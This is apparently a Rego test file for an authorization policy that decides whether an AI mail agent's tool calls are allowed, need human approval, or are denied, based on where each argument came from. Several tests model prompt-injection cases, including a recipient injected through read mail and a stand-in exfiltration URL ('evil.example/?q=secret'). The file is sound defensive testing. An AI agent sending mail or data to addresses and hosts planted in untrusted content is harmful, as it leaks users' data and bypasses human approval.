package runtime.authz_test

import data.runtime.authz

# Policy input schema 2: argument labels are objects, sinks are judged by where their
# value came from. call(agent, tool, effect, args) comes from authz_test.rego.

label(trust, sources, via, sink) := {
	"trust": trust,
	"sources": sources,
	"via": via,
	"sink": sink,
	"origin": "any",
	"task": false,
}

call2(tool, effect, args, labels) := object.union(
	call("mailer", tool, effect, args),
	{
		"schema_version": "2",
		"provenance": {"args": labels, "legacy_args": {}, "untrusted_sources_seen": ["mail.read"], "overflowed": false},
	},
)

mailer_grants := {"tools": ["mail.send", "web.get", "drive.delete", "fs.write"]}

send(to_label) := call2(
	"mail.send", "external", {"to": "x", "body": "y"},
	{"to": to_label, "body": label("untrusted", ["mail.read"], ["text"], null)},
)

injected_recipient := label("untrusted", ["mail.read"], ["email"], "recipient")

recipient_reason := "recipient argument to comes from untrusted content (mail.read), not from the task or trusted data"

# ------------------------------------------------------------------ allow

test_trusted_recipient_with_untrusted_body_is_allowed if {
	authz.decision.allow with input as send(label("trusted", ["trusted_data.contacts"], ["value"], "recipient"))
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_model_written_recipient_is_allowed if {
	authz.decision.allow with input as send(label("model", [], [], "recipient"))
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_external_effect_alone_needs_no_approval if {
	authz.decision.allow with input as call2("mail.send", "external", {"to": "x"}, {})
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

# The schema-1 rule does not apply to schema 2: untrusted content in a non-sink argument
# of a side effect is the safety node's to check, not a reason to ask.
test_untrusted_non_sink_of_a_write_is_allowed if {
	authz.decision.allow with input as call2(
		"fs.write", "write", {"path": "notes.md", "content": "x"},
		{"content": label("untrusted", ["web.get"], ["text"], null)},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_egress_url_followed_verbatim_is_allowed if {
	authz.decision.allow with input as call2(
		"web.get", "egress", {"url": "https://wiki.example.com/a"},
		{"url": label("untrusted", ["chat.read"], ["value"], "url")},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_destructive_target_named_in_the_task_is_allowed if {
	authz.decision.allow with input as call2(
		"drive.delete", "write", {"path": "old.txt"},
		{"path": object.union(label("trusted", ["task"], ["value"], "path"), {"origin": "task", "task": true})},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

# ------------------------------------------------------------------ approval and deny

test_untrusted_recipient_needs_approval if {
	authz.decision == {
		"allow": false,
		"require_approval": true,
		"reasons": [concat("", [recipient_reason, ": needs human approval"])],
		"obligations": {},
	} with input as send(injected_recipient)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_untrusted_recipient_denied_when_configured if {
	authz.decision == {
		"allow": false,
		"require_approval": false,
		"reasons": [concat("", [recipient_reason, ": not allowed"])],
		"alternatives": ["take to from the user's task or trusted data, or ask the user to approve the call"],
		"obligations": {},
	} with input as send(injected_recipient)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
		with data.runtime_data.authz.provenance.untrusted_sink as "deny"
}

test_untrusted_sinks_are_named if {
	authz.untrusted_sinks == {"to"} with input as send(injected_recipient)
}

# ------------------------------------------------------------------ edges

# The label store forgot untrusted labels: a value found nowhere is unknown, not the model's.
test_unknown_recipient_needs_approval if {
	authz.decision.reasons == ["recipient argument to comes from untrusted content (content the run can no longer tell apart), not from the task or trusted data: needs human approval"] with input as send(label("unknown", [], [], "recipient"))
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

# A URL the model built on an untrusted destination (a query appended) carries data out.
test_egress_url_built_on_an_untrusted_domain_needs_approval if {
	authz.decision.require_approval with input as call2(
		"web.get", "egress", {"url": "https://evil.example/?q=secret"},
		{"url": label("untrusted", ["chat.read"], ["domain"], "url")},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

# A verbatim link is only harmless where it is fetched: posted in a message, it spreads.
test_verbatim_link_on_a_send_needs_approval if {
	authz.decision.require_approval with input as call2(
		"mail.send", "external", {"body": "see https://evil.example"},
		{"body": label("untrusted", ["mail.read"], ["value"], "links")},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_trusted_target_the_task_does_not_name_needs_approval if {
	authz.decision.reasons == ["path argument path must be named in the task: the user did not ask for it: needs human approval"] with input as call2(
		"drive.delete", "write", {"path": "budget.xlsx"},
		{"path": object.union(label("trusted", ["drive.list"], ["value"], "path"), {"origin": "task"})},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

test_untrusted_value_in_a_non_sink_is_not_a_sink if {
	count(authz.untrusted_sinks) == 0 with input as call2(
		"mail.send", "external", {"body": "x"},
		{"body": label("untrusted", ["mail.read"], ["email"], null)},
	)
}

# Schema 1 labels are strings: the sink rule never reads them, the old rule still does.
test_schema_1_input_is_not_judged_by_sinks if {
	count(authz.untrusted_sinks) == 0 with input as object.union(
		call("mailer", "mail.send", "external", {"to": "x"}),
		{"provenance": {"args": {"to": "untrusted"}, "untrusted_sources_seen": []}},
	)
}

test_schema_1_untrusted_side_effect_still_needs_approval if {
	authz.decision.reasons == ["a external call with untrusted arguments (to) needs human approval"] with input as object.union(
		call("mailer", "mail.send", "external", {"to": "x"}),
		{"provenance": {"args": {"to": "untrusted"}, "untrusted_sources_seen": []}},
	)
		with data.runtime_data.authz.grants.agents.mailer as mailer_grants
}

# A schema-2 object label with an untrusted trust is read as untrusted (not silently missed).
test_schema_2_labels_are_read_by_their_trust if {
	authz.untrusted_args == {"body", "to"} with input as send(injected_recipient)
}
